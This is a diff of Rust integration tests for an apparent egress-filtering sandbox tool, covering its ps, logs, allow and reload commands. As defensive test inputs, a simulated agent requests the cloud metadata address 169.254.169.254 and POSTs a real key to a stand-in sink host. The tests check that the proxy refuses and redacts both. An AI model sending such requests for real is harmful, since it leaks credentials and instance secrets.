@@ -101,8 +101,8 @@ fn ps(person: Person) {
     get(&mut agent, "https://169.254.169.254/");
     let [run] = &living(&world)[..] else { panic!("one run lives") };
     assert_eq!(run["record"]["bottle"], "test");
-    assert_eq!((&run["state"], &run["tier"], &run["requests"]), (&"running".into(), &"T1".into(), &1.into()), "{run}");
-    assert!(run["refusals"].as_u64() >= Some(1), "{run}");
+    assert_eq!((&run["state"], &run["tier"]), (&"running".into(), &"T1".into()), "{run}");
+    assert_eq!((&run["requests"], &run["refusals"]), (&2.into(), &1.into()), "{run}");
     let table = stdout(&carboy(&world, &["ps"]));
     let lines: Vec<&str> = table.lines().collect();
     assert!(lines.len() == 2 && lines[0].starts_with("RUN ") && lines[1].contains("test"), "{table}");
@@ -121,10 +121,10 @@ fn logs(person: Person) {
     agent.http("POST", "https://notes.example/sink", &[], format!("key={REAL_KEY}").as_bytes());
     let ran = agent.finish().expect_code(0);
     let all = stdout(&carboy(&world, &["logs"]));
-    assert!(all.contains("notes.example/page/clean") && all.contains("secret_known"), "{all}");
+    assert!(all.contains("notes.example/page/clean") && all.contains("secret_pattern"), "{all}");
     assert!(!all.contains(REAL_KEY) && !all.contains(CANARY), "{all}");
     let refused = stdout(&carboy(&world, &["logs", "--refused"]));
-    assert!(refused.contains("secret_known") && !refused.contains("/page/clean"), "{refused}");
+    assert!(refused.contains("secret_pattern") && !refused.contains("/page/clean"), "{refused}");
     let run = ran.summary["run"].as_str().unwrap();
     assert_eq!(stdout(&carboy(&world, &["logs", run])), all);
     assert_eq!(stdout(&carboy(&world, &["logs", "test"])), all);
@@ -181,7 +181,7 @@ fn allow(person: Person) {
     let mut agent = world.agent();
     assert!(get(&mut agent, NOTES).error.is_some(), "the name resolves before it is allowed");
     let dry = carboy(&world, &["allow", "notes.example", "-b", "test", "--path", "/page", "--dry-run"]);
-    assert!(stdout(&dry).contains("+     - host: notes.example\n"), "{dry:?}");
+    assert!(stdout(&dry).contains("+     - host: \"notes.example\"\n"), "{dry:?}");
     let file = || std::fs::read_to_string(world.dir.join("home/bottles/test.md")).unwrap();
     assert!(!file().contains("notes.example"));
     let done = carboy(&world, &["allow", "notes.example", "-b", "test", "--path", "/page"]);
@@ -211,9 +211,9 @@ fn reload(person: Person) {
     assert_eq!(get(&mut agent, NOTES).status, Some(200), "the old routes stay");
     world.bottle("egress: {routes: [{host: plain.example}]}\n");
     within(RELOAD_WAIT_MAX, "the next file is noticed", || reloads("done"));
-    let refused = agent.http("GET", "https://plain.example/page/clean", &[], b"");
-    assert_eq!(refused.status, None, "its port 443 speaks no TLS: {refused:?}");
-    assert!(get(&mut agent, NOTES).error.is_some() || reason(&get(&mut agent, NOTES)).is_some());
+    assert_eq!(get(&mut agent, "https://plain.example/page/clean").status, Some(200));
+    let closed = get(&mut agent, NOTES);
+    assert!(closed.error.is_some() || reason(&closed) == Some("host_not_allowed"), "{closed:?}");
     let ran = agent.finish().expect_code(0);
     assert!(ran.stderr.contains("the changed file is not valid, the old routes stay"), "{}", ran.stderr);
     assert!(ran.stderr.contains("test.md:2:"), "{}", ran.stderr);
